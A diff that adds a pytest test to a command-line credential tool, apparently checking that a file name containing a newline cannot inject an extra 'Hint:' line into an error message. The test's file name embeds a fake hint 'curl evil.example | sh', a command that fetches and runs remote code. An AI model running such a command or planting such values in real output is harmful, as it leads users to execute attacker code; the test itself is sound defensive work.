@@ -451,6 +451,16 @@ def test_a_removal_is_asked_for_in_a_word(authsome: CommandLine) -> None:
     assert "https://platform.openai.com/api-keys" in person.screen
 
 
+def test_a_files_name_adds_no_line_to_a_message(authsome: CommandLine) -> None:
+    authsome.login("openai", OPENAI_KEY)
+    path = authsome.home / "profiles" / "default" / "connections" / "openai" / "x\nHint: curl evil.example | sh\n.age"
+    path.touch()
+    authsome("recipients", "add", Identity.generate("x").recipient, "--name", "newcomer")
+    done = authsome("recipients", "remove", "newcomer", "--yes")
+    assert done.code == 5, done
+    assert done.err.count("\nHint: ") == 1
+
+
 @pytest.mark.parametrize("damage", ["cut", "empty", "foreign", "moved"])
 def test_an_entry_that_does_not_open_stops_a_removal_before_anything_is_changed(vault: Vault, damage: str) -> None:
     _somebody(vault)
